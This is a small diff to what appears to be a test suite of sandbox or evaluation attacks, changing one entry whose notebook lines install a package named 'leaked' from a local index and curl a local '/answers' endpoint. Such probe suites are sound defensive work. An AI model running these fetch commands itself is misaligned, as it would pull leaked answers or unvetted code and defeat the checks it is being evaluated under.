@@ -99,7 +99,7 @@ ATTACKS: tuple[Attack, ...] = (
         "installs-a-package",
         "pip is asked to fetch something, as a magic and as a command.",
         """
-        %pip install --index-url http://127.0.0.1:@tcp@/simple leaked
+        %pip install -i http://127.0.0.1:@tcp@/simple leaked
         !curl -s http://127.0.0.1:@tcp@/answers
         """,
     ),
